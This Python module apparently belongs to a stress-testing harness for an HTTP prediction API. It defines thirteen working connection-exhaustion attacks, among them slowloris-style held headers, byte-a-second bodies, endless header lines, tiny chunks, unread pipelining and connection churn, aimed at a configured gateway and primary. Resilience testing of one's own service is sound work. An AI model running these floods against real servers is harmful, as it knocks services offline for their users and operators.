"""Attacks by connections: slow, silent, endless, many. Most need no key, since a key is only read in a whole head."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Callable

from churnattack.target import Attack, Run, Tally, Target, paced, together
from churnattack.wire import CHUNK, JSON_TYPE, Wire, customer, hold, prediction, request, wired

SILENT = 300
HALF = 200
SLOW = 100
BEGUN_HEAD = b"POST /v1/predictions HTTP/1.1\r\nhost: a\r\n"


def held(count: int, begin: Callable[[Target], bytes]) -> Run:
    """So many connections that send a beginning, then nothing; one that the server ends is opened again."""

    async def run(target: Target, tally: Tally) -> None:
        async def one(number: int) -> None:
            await asyncio.sleep(number / count)
            async for _ in paced(target, 2.0):
                async with wired(target.gateway, tally) as wire:
                    if wire is not None:
                        tally.sent += 1
                        await wire.send(begin(target))
                        await hold(wire, target)

        await together(count, one)

    return run


def dripping(
    count: int, begin: Callable[[Target], bytes], drop: bytes, rate: float, door: Callable[[Target], int]
) -> Run:
    """So many connections that send a beginning and then drops without end, each so many a second."""

    async def run(target: Target, tally: Tally) -> None:
        async def one(number: int) -> None:
            await asyncio.sleep(number / count)
            drops = paced(target, rate)
            while target.left > 0:
                async with wired(door(target), tally) as wire:
                    if wire is None:
                        await asyncio.sleep(0.5)
                        continue
                    tally.sent += 1
                    await wire.send(begin(target))
                    await drip(wire, drops, drop)

        await together(count, one)

    return run


async def drip(wire: Wire, drops: AsyncIterator[int], drop: bytes) -> None:
    """Send drops while the connection takes them and nothing is answered."""
    answered = asyncio.ensure_future(wire.answer())
    try:
        async for _ in drops:
            if answered.done():
                await answered
                return
            await wire.send(drop)
    finally:
        answered.cancel()
        await asyncio.gather(answered, return_exceptions=True)


def gateway(target: Target) -> int:
    """The gateway's HTTP port."""
    return target.gateway


def primary(target: Target) -> int:
    """The primary's HTTP port: whoever is inside the cluster."""
    return target.primary


def declared(target: Target) -> bytes:
    """A keyed head that announces a body."""
    return request("/v1/predictions", b"", key=target.key).replace(b"content-length: 0", b"content-length: 100000")


def chunked(target: Target) -> bytes:
    """A keyed head that announces chunks."""
    return request("/v1/predictions", b"", key=target.key).replace(b"content-length: 0", b"transfer-encoding: chunked")


def expecting(target: Target) -> bytes:
    """A head that waits for leave to send two megabytes."""
    head = request("/v1/predictions", b"", (JSON_TYPE, ("expect", "100-continue")), key=target.key)
    return head.replace(b"content-length: 0", b"content-length: 2000000")


async def pipelined(target: Target, tally: Tally) -> None:
    """Good requests one behind the other, and no answer is ever read."""
    one = prediction(target, customer(target))

    async def deaf(_: int) -> None:
        turns = paced(target, 25.0)
        while target.left > 0:
            async with wired(target.gateway, tally) as wire:
                if wire is None:
                    await asyncio.sleep(0.5)
                    continue
                wire.reader._transport.pause_reading()  # type: ignore[attr-defined]
                await push(wire, target, turns, one * 20)

    await together(4, deaf)


async def push(wire: Wire, target: Target, turns: AsyncIterator[int], content: bytes) -> None:
    """Send until the server takes no more, then stay."""
    async for _ in turns:
        wire.tally.sent += 20
        try:
            async with asyncio.timeout(max(0.1, target.left)):
                await wire.send(content)
        except TimeoutError:
            return


async def churned(target: Target, tally: Tally) -> None:
    """Connections that are opened and broken at once."""

    async def one(_: int) -> None:
        async for _turn in paced(target, 75.0):
            async with wired(target.gateway, tally) as wire:
                tally.sent += wire is not None

    await together(4, one)


async def hung_up(target: Target, tally: Tally) -> None:
    """Good requests whose caller resets the connection before the answer."""
    body = prediction(target, customer(target))

    async def one(_: int) -> None:
        async for _turn in paced(target, 25.0):
            async with wired(target.gateway, tally) as wire:
                if wire is not None:
                    tally.sent += 1
                    await wire.send(body)

    await together(4, one)


def begun(content: bytes) -> Callable[[Target], bytes]:
    """The same beginning for every target."""
    return lambda _: content


HEADER_LINE = b"x-filler-line: " + b"a" * (CHUNK // 4) + b"\r\n"
SHORT_LINES = b"x-a: b\r\n" * 2000

CONNECTION_ATTACKS = (
    Attack(
        "header-lines",
        "HTTP, no key",
        "header lines without end, 4 connections of 1 MB/s",
        dripping(4, begun(BEGUN_HEAD), HEADER_LINE, 64.0, gateway),
    ),
    Attack(
        "header-count",
        "HTTP, no key",
        "short header lines without end, 2 connections of 0.5 MB/s",
        dripping(2, begun(BEGUN_HEAD), SHORT_LINES, 32.0, gateway),
    ),
    Attack(
        "header-lines-primary",
        "primary",
        "header lines without end, 2 connections of 1 MB/s",
        dripping(2, begun(BEGUN_HEAD), HEADER_LINE, 64.0, primary),
    ),
    Attack(
        "endless-target",
        "HTTP, no key",
        "a request line without end, 2 connections of 1 MB/s",
        dripping(2, begun(b"GET /"), b"a" * (CHUNK // 4), 64.0, gateway),
    ),
    Attack("silent", "HTTP, no key", f"{SILENT} connections that never say a word", held(SILENT, begun(b""))),
    Attack("half-head", "HTTP, no key", f"{HALF} connections that stop inside the head", held(HALF, begun(BEGUN_HEAD))),
    Attack(
        "slow-head",
        "HTTP, no key",
        f"{SLOW} heads of a byte a second",
        dripping(SLOW, begun(BEGUN_HEAD), b"a", 1.0, gateway),
    ),
    Attack("slow-body", "HTTP", f"{SLOW} bodies of a byte a second", dripping(SLOW, declared, b" ", 1.0, gateway)),
    Attack(
        "tiny-chunks",
        "HTTP",
        "4 bodies in chunks of one byte, 5,000 a second in all",
        dripping(4, chunked, b"1\r\n \r\n" * 25, 50.0, gateway),
    ),
    Attack("expect-continue", "HTTP", f"{SLOW} callers that wait for leave to send 2 MB", held(SLOW, expecting)),
    Attack("pipelined", "HTTP", "good requests pipelined, 2,000 a second, no answer is read", pipelined),
    Attack("churned", "HTTP, no key", "300 connections a second, opened and broken", churned),
    Attack("hung-up", "HTTP", "100 good requests a second whose caller is gone before the answer", hung_up),
)
